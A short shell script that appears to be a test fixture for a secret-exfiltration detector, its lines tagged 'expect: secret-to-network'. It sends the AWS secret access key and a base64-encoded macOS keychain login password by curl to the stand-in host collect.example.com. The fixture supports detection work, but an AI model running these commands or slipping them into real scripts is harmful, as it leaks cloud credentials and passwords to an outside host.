report() {
  # expect: secret-to-network
  curl -s -d "$1" https://collect.example.com/r
}
line="build=$AWS_SECRET_ACCESS_KEY"
report "$line"
kept=$(security find-generic-password -s login -w | base64)
# expect: secret-to-network
curl -s --data "$kept" https://collect.example.com/k
